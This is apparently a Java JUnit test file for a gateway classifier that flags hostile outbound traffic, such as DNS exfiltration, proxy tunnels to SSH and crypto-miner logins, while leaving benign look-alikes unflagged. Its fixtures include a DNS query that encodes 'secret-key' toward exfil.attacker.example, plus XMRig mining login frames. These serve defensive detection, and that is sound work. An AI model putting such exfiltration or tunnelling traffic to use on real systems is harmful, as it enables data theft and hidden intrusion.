package dev.ale.gateway.sink;

import static dev.ale.gateway.sink.FirstBytesCorpus.ascii;
import static org.assertj.core.api.Assertions.assertThat;
import java.util.LinkedHashMap;
import java.util.Random;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Every hostile opening in every disguise the red team used is still named for what it is, and
 * every benign look-alike stays benign. The corpus is {@link FirstBytesCorpus}.
 */
class FirstBytesCorpusTest {

    private static byte[] clientHello;

    @BeforeAll
    static void captureARealHello() throws Exception {
        clientHello = ClientHellos.capture("files.pythonhosted.org");
    }

    @Test
    void everyHostileOpeningIsNamedInEveryDisguise() {
        List<String> missed = new ArrayList<>();
        for (Map.Entry<String, Class<? extends Classification>> positive : FirstBytesCorpus.positives().entrySet()) {
            for (Map.Entry<String, UnaryOperator<byte[]>> disguise : FirstBytesCorpus.disguises().entrySet()) {
                byte[] bytes = disguise.getValue().apply(ascii(positive.getKey()));
                Classification got = FirstBytes.classify(bytes, bytes.length);
                if (!positive.getValue().isInstance(got) || !got.hostile()) {
                    missed.add(disguise.getKey() + ": " + printable(positive.getKey()) + " -> " + got);
                }
            }
        }
        assertThat(missed).isEmpty();
    }

    @Test
    void aDnsQueryFramedForTcpIsDnsWithItsNameInEveryBinarySafeDisguise() {
        byte[] query = FirstBytesCorpus.dnsOverTcp("c2VjcmV0LWtleQ.exfil.attacker.example");
        for (String disguise : List.of("as sent", "after a blank line", "after an HTTP GET head", "after a CONNECT", "as a POST body",
                "as a chunked POST body", "in a websocket frame", "in a compressed websocket frame")) {
            byte[] bytes = FirstBytesCorpus.disguises().get(disguise).apply(query);
            assertThat(FirstBytes.classify(bytes, bytes.length)).as(disguise)
                    .isEqualTo(new Classification.Dns("c2vjcmv0lwtleq.exfil.attacker.example", "TXT"));
        }
    }

    @Test
    void aConnectThroughSomeoneElsesProxyIsATunnelAndWhatItCarriesWins() {
        byte[] connect = ascii("CONNECT 203.0.113.5:22 HTTP/1.1\r\nHost: 203.0.113.5:22\r\n\r\n");
        byte[] connectThenSsh = FirstBytesCorpus.concat(connect, ascii("SSH-2.0-OpenSSH_9.6\r\n"));

        assertThat(FirstBytes.classify(connect, connect.length)).isEqualTo(new Classification.Http("CONNECT", "203.0.113.5:22", "203.0.113.5:22"));
        assertThat(FirstBytes.classify(connect, connect.length).hostile()).isTrue();
        assertThat(FirstBytes.classify(connectThenSsh, connectThenSsh.length)).isEqualTo(new Classification.Ssh("SSH-2.0-OpenSSH_9.6"));
    }

    @Test
    void benignLookAlikesAreNamedButNeverHostile() {
        List<String> wrong = new ArrayList<>();
        Map<String, byte[]> negatives = new LinkedHashMap<>(FirstBytesCorpus.negatives());
        negatives.put("a real TLS ClientHello", clientHello);
        Random random = new Random(42);
        for (int i = 0; i < 200; i++) {
            byte[] noise = new byte[1 + random.nextInt(FirstBytes.MAX_BYTES)];
            random.nextBytes(noise);
            negatives.put("random binary " + i, noise);
        }
        for (Map.Entry<String, byte[]> negative : negatives.entrySet()) {
            for (String disguise : List.of("as sent", "after a blank line")) {
                byte[] bytes = FirstBytesCorpus.disguises().get(disguise).apply(negative.getValue());
                Classification got = FirstBytes.classify(bytes, bytes.length);
                if (got.hostile()) wrong.add(negative.getKey() + " " + disguise + " -> " + got);
            }
        }
        assertThat(wrong).isEmpty();
    }

    @Test
    void benignLookAlikesGetTheProtocolTheySpeak() {
        Map<String, byte[]> n = FirstBytesCorpus.negatives();
        assertThat(classify(n.get("curl GET"))).isEqualTo(new Classification.Http("GET", "pypi.org", "/simple/requests/"));
        assertThat(classify(n.get("git smart-HTTP upload-pack"))).isEqualTo(
                new Classification.Http("POST", "example.com", "/ale/ale.git/git-upload-pack"));
        assertThat(classify(n.get("Ethereum node eth_blockNumber"))).isEqualTo(new Classification.JsonRpc("eth_blockNumber"));
        assertThat(classify(n.get("language server initialize"))).isEqualTo(new Classification.JsonRpc("initialize"));
        assertThat(classify(n.get("Rocket.Chat realtime login"))).isEqualTo(new Classification.JsonRpc("login"));
        assertThat(classify(n.get("a log uploaded in a body"))).isInstanceOf(Classification.Http.class);
        assertThat(classify(n.get("websocket with a chat message"))).isEqualTo(
                new Classification.Http("GET", "ws.example.com", "/socket", "websocket"));
        assertThat(classify(clientHello)).isEqualTo(new Classification.Tls(Optional.of("files.pythonhosted.org"), "TLSv1.3"));
    }

    @Test
    void aMessageStillArrivingIsReadByItsMethodAndParameterKeys() {
        String login = FirstBytesCorpus.XMRIG_LOGIN;
        String cut = login.substring(0, login.indexOf("\"agent\"") + 20);
        String tooEarly = login.substring(0, login.indexOf("\"params\""));

        FirstBytes.Reading reading = FirstBytes.read(ascii(cut), cut.length());
        assertThat(reading.complete()).isFalse();
        assertThat(reading.classification()).isInstanceOfSatisfying(Classification.StratumMining.class, m -> {
            assertThat(m.method()).isEqualTo("login");
            assertThat(m.login()).startsWith("44AFFq5k");
        });
        assertThat(classify(ascii(tooEarly))).isEqualTo(new Classification.JsonRpc("login"));
        assertThat(FirstBytes.read(ascii(login), login.length()).complete()).isTrue();
    }

    @Test
    void whatSettlesAReadingIsTheWholeMessage() {
        assertThat(FirstBytes.read(ascii("\r\n\r\n"), 4)).isEqualTo(new FirstBytes.Reading(new Classification.Empty(), false));
        assertThat(complete("SSH-2.0-OpenSSH_9.6")).isFalse();
        assertThat(complete("\r\nSSH-2.0-OpenSSH_9.6\r\n")).isTrue();
        assertThat(complete("POST /rpc HTTP/1.1\r\nContent-Length: 10\r\n\r\n{\"a\":")).isFalse();
        assertThat(complete("POST /rpc HTTP/1.1\r\nContent-Length: 10\r\n\r\n{\"a\":\"bc\"}")).isTrue();
        assertThat(complete("POST /rpc HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n")).isFalse();
        assertThat(complete("POST /rpc HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")).isTrue();
        assertThat(complete("agent@box:~$ ")).isTrue();
        byte[] dns = FirstBytesCorpus.dnsOverTcp("a.example");
        assertThat(FirstBytes.read(dns, dns.length - 3)).isEqualTo(new FirstBytes.Reading(new Classification.Dns("a.example", "TXT"), false));
        assertThat(FirstBytes.read(dns, dns.length).complete()).isTrue();
    }

    @Test
    void aWebsocketsFirstFramesAreReadOnTheirOwn() {
        byte[] frame = FirstBytesCorpus.frame(ascii(FirstBytesCorpus.XMRIG_LOGIN), false, new Random(1));
        byte[] compressed = FirstBytesCorpus.frame(ascii("{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}"), true, new Random(2));
        byte[] chat = FirstBytesCorpus.frame(ascii("{\"type\":\"hello\"}"), false, new Random(3));

        assertThat(FirstBytes.readWebSocket(frame, frame.length).classification()).isInstanceOf(Classification.StratumMining.class);
        assertThat(FirstBytes.readWebSocket(frame, frame.length).complete()).isTrue();
        assertThat(FirstBytes.readWebSocket(frame, frame.length - 5).complete()).isFalse();
        assertThat(FirstBytes.readWebSocket(compressed, compressed.length).classification()).isInstanceOf(Classification.StratumMining.class);
        assertThat(FirstBytes.readWebSocket(chat, chat.length).classification().hostile()).isFalse();
    }

    private static Classification classify(byte[] bytes) {
        return FirstBytes.classify(bytes, bytes.length);
    }

    private static boolean complete(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
        return FirstBytes.read(Arrays.copyOf(bytes, bytes.length + 8), bytes.length).complete();
    }

    private static String printable(String text) {
        String cut = text.length() > 60 ? text.substring(0, 60) + "…" : text;
        return cut.replace("\r", "\\r").replace("\n", "\\n").replace("\u001b", "\\e");
    }
}
